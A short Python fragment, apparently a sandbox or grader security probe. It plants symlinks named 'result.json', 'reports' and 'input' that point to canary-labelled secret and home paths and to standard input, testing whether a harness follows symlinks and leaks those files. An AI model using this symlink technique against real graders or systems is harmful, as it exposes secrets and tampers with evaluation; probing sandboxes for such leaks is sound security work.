import os

for folder in (".", clues["CANARY_SHARED"]):
    attempt(os.symlink, clues["CANARY_SECRET"], f"{folder}/result.json")
    attempt(os.symlink, clues["CANARY_HOME"], f"{folder}/reports")
    attempt(os.symlink, "/proc/self/fd/0", f"{folder}/input")
